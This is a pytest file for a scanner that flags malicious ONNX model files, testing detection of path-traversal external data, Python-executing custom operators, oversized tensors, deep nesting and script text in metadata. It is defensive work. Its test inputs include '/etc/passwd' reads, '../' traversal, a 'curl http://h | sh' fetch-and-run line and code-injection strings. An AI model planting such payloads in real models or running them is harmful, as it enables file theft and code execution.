from __future__ import annotations

from collections.abc import Callable

import numpy as np
import onnx
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from onnx import TensorProto, helper, numpy_helper
from tests.formats.scanning.desks import Looked, corpus, held, looked

from casemate.formats.scanning.readers import onnx as reader
from casemate.formats.scanning.signs import Level

READERS = (reader.READERS,)


def look(model: object, **more) -> Looked:
    return looked(model if isinstance(model, bytes) else model.SerializeToString(), *READERS, **more)


def value(name: str) -> onnx.ValueInfoProto:
    return helper.make_tensor_value_info(name, TensorProto.FLOAT, [1])


def graph(*nodes: onnx.NodeProto, tensors: tuple[onnx.TensorProto, ...] = ()) -> onnx.GraphProto:
    return helper.make_graph([*nodes, helper.make_node("Relu", ["x"], ["y"])], "g", [value("x")], [value("y")], tensors)


def model(*nodes: onnx.NodeProto, tensors: tuple[onnx.TensorProto, ...] = (), **more: object) -> onnx.ModelProto:
    return helper.make_model(graph(*nodes, tensors=tensors), **more)


def outside(location: str, **told: str) -> onnx.TensorProto:
    tensor = TensorProto(name="w", data_type=TensorProto.FLOAT, dims=[4], data_location=TensorProto.EXTERNAL)
    for key, text in {"location": location, **told}.items():
        tensor.external_data.add(key=key, value=text)
    return tensor


def branch(inner: onnx.GraphProto) -> onnx.NodeProto:
    return helper.make_node("If", ["c"], ["z"], then_branch=inner, else_branch=graph())


def in_graph(tensor: onnx.TensorProto) -> onnx.ModelProto:
    return model(tensors=(tensor,))


def in_constant(tensor: onnx.TensorProto) -> onnx.ModelProto:
    return model(helper.make_node("Constant", [], ["k"], value=tensor))


def in_branches(tensor: onnx.TensorProto) -> onnx.ModelProto:
    inner = graph(tensors=(tensor,))
    for _ in range(5):
        inner = graph(branch(inner))
    return model(branch(inner))


def in_graphs(tensor: onnx.TensorProto) -> onnx.ModelProto:
    node = helper.make_node("Loop", [], [])
    node.attribute.add(name="gs", type=onnx.AttributeProto.GRAPHS).graphs.append(graph(tensors=(tensor,)))
    return model(node)


def in_function(tensor: onnx.TensorProto) -> onnx.ModelProto:
    node = helper.make_node("Constant", [], ["b"], value=tensor)
    made = helper.make_function("own", "f", ["a"], ["b"], [node], [helper.make_opsetid("", 17)])
    return model(helper.make_node("f", ["x"], ["z"], domain="own"), functions=[made])


def in_sparse(tensor: onnx.TensorProto) -> onnx.ModelProto:
    out = model()
    out.graph.sparse_initializer.add(dims=[9]).values.CopyFrom(tensor)
    return out


def in_training(tensor: onnx.TensorProto) -> onnx.ModelProto:
    out = model()
    out.training_info.add().algorithm.CopyFrom(graph(tensors=(tensor,)))
    return out


PLACES = [in_graph, in_constant, in_branches, in_graphs, in_function, in_sparse, in_training]


@pytest.mark.parametrize("place", PLACES, ids=lambda place: place.__name__)
def test_data_outside_the_folder_is_found_wherever_a_tensor_can_lie(place: Callable[..., onnx.ModelProto]) -> None:
    for location in ("/etc/passwd", "../x", "a/../../x", "file:///etc/passwd", "C:\\x", "..\\x", "~/x", "http://h/x"):
        found = look(place(outside(location)))
        assert found.level is Level.MALICIOUS, location
        assert "onnx/external-data" in found.rules
    assert look(place(outside("weights.bin", offset="4096", length="16"))).level is Level.CLEAN


@pytest.mark.parametrize(
    "told", [{"offset": "-1"}, {"length": "x"}, {"offset": str(1 << 62)}, {"length": "9" * 40}, {"length": "100000"}]
)
def test_stretches_that_no_file_has_are_told(told: dict[str, str]) -> None:
    assert look(in_graph(outside("w.bin", **told))).rules == {"onnx/external-range"}


def test_of_two_places_both_are_looked_at() -> None:
    twice = outside("weights.bin")
    twice.external_data.add(key="location", value="/etc/passwd")
    twice.external_data.add(key="location", value="weights.bin")
    assert look(in_graph(twice)).level is Level.MALICIOUS


def test_data_without_a_name_or_a_place_is_told() -> None:
    assert look(in_graph(outside(""))).level is Level.SUSPICIOUS
    nowhere = TensorProto(name="w", data_type=1, dims=[4], data_location=TensorProto.EXTERNAL)
    assert look(in_graph(nowhere)).level is Level.UNREADABLE


@pytest.mark.parametrize(
    ("domain", "op", "level"),
    [
        ("", "Add", Level.CLEAN), ("ai.onnx", "Add", Level.CLEAN), ("ai.onnx.ml", "TreeEnsembleRegressor", Level.CLEAN),
        ("com.microsoft", "FusedMatMul", Level.CLEAN), ("com.microsoft", "PythonOp", Level.MALICIOUS),
        ("com.microsoft", "PythonOpGrad", Level.MALICIOUS), ("ai.onnx.contrib", "PyOp", Level.MALICIOUS),
        ("ai.onnx.contrib", "BertTokenizer", Level.SUSPICIOUS), ("my.own", "Thing", Level.SUSPICIOUS),
        ("com.microsoft", "EPContext", Level.SUSPICIOUS),
    ],
)  # fmt: skip
def test_operators_are_ruled_by_their_domain(domain: str, op: str, level: Level) -> None:
    node = helper.make_node(op, ["x"], ["z"], domain=domain)
    assert look(model(node)).level is level
    assert look(model(branch(graph(node)))).level is level


def test_a_function_of_the_model_is_no_operator_of_somebody_else() -> None:
    body = [helper.make_node("Relu", ["a"], ["b"])]
    made = helper.make_function("own", "f", ["a"], ["b"], body, [helper.make_opsetid("", 17)])
    call = helper.make_node("f", ["x"], ["z"], domain="own")
    assert look(model(call, functions=[made])).level is Level.CLEAN
    assert look(model(call)).level is Level.SUSPICIOUS


@pytest.mark.parametrize(
    "text",
    [
        "<script>x()</script>",
        "javascript:x",
        "import os",
        "__import__('os')",
        "curl http://h | sh",
        "{{ ''.__class__ }}",
    ],
)
def test_scripts_in_notes_are_told(text: str) -> None:
    noted = model()
    noted.metadata_props.add(key="author", value=text)
    assert look(noted).rules == {"onnx/script"}
    assert look(model(doc_string=text)).rules == {"onnx/script"}
    named = model(helper.make_node("Add", ["x", "x"], ["z"], doc_string=text))
    assert look(named).rules == {"onnx/script"}


def test_sizes_that_nothing_has_are_told() -> None:
    for sizes in ([1 << 41], [1 << 20, 1 << 20, 1 << 20], [-1], [1 << 30]):
        tensor = TensorProto(name="w", data_type=1, dims=sizes, raw_data=b"1234")
        assert look(in_graph(tensor)).rules == {"onnx/size"}, sizes


def test_graphs_that_nest_too_deep_are_told_and_end() -> None:
    def part(number: int, data: bytes) -> bytes:
        size, out = len(data), bytes((number << 3 | 2,))
        while size > 127:
            out, size = out + bytes((size & 127 | 128,)), size >> 7
        return out + bytes((size,)) + data

    inner = part(1, part(4, b"If"))
    for _ in range(300):
        inner = part(1, part(4, b"If") + part(5, part(6, inner)))
    assert "onnx/nesting" in look(b"\x08\x08" + part(7, inner)).rules


@pytest.mark.parametrize(
    ("path", "level"),
    [
        ("benign/generated/onnx/m.onnx", Level.CLEAN),
        ("malicious/generated/onnx/aten_pyop.onnx", Level.MALICIOUS),
        ("malicious/generated/onnx/ext_absolute.onnx", Level.MALICIOUS),
        ("malicious/generated/onnx/ext_dotdot.onnx", Level.MALICIOUS),
        ("malicious/generated/onnx/ext_in_function.onnx", Level.MALICIOUS),
        ("malicious/generated/onnx/ext_uri.onnx", Level.MALICIOUS),
        ("suspicious/generated/onnx/meta_script.onnx", Level.SUSPICIOUS),
    ],
)
def test_the_corpus_has_its_verdicts(path: str, level: Level) -> None:
    assert look(corpus(path)).level is level


def test_models_of_scikit_learn_are_clean() -> None:
    from skl2onnx import to_onnx
    from sklearn.ensemble import RandomForestClassifier
    from sklearn.linear_model import LogisticRegression
    from sklearn.pipeline import make_pipeline
    from sklearn.preprocessing import StandardScaler

    rng = np.random.default_rng(0)
    x, y = rng.normal(size=(40, 3)).astype(np.float32), rng.integers(0, 2, 40)
    for estimator in (
        LogisticRegression(),
        RandomForestClassifier(3),
        make_pipeline(StandardScaler(), LogisticRegression()),
    ):
        found = look(to_onnx(estimator.fit(x, y), x[:1]))
        assert not found.signs
        assert found.formats == ("onnx",)


def test_a_tensor_by_itself_and_the_runtime_format_are_recognised() -> None:
    assert look(numpy_helper.from_array(np.arange(6.0).reshape(2, 3), "t")).formats == ("onnx",)
    assert look(outside("../x")).level is Level.MALICIOUS
    assert look(b"\x20\0\0\0ORTM" + bytes(40)).level is Level.UNKNOWN


def test_fields_in_any_order_and_unknown_ones_hide_nothing() -> None:
    whole = in_graph(outside("../x")).SerializeToString()
    assert look(b"\x9a\x06\x01x" + whole).level is Level.MALICIOUS
    assert look(b"\x9b\x06\x0a\x01x\x08\x01\x9c\x06" + whole).level is Level.MALICIOUS  # a group
    assert look(whole[2:] + whole[:2]).level is Level.MALICIOUS
    assert look(model().SerializeToString() + whole).level is Level.MALICIOUS  # two graphs merge


SAMPLE = in_branches(outside("../x")).SerializeToString()


def test_every_prefix_is_held() -> None:
    for size in range(len(SAMPLE)):
        held(SAMPLE[:size], *READERS)


@settings(max_examples=200, deadline=None)
@given(st.lists(st.tuples(st.integers(0, len(SAMPLE) - 1), st.integers(0, 255)), max_size=6))
def test_changed_bytes_are_held(changes: list[tuple[int, int]]) -> None:
    out = bytearray(SAMPLE)
    for at, byte in changes:
        out[at] = byte
    held(bytes(out), *READERS)
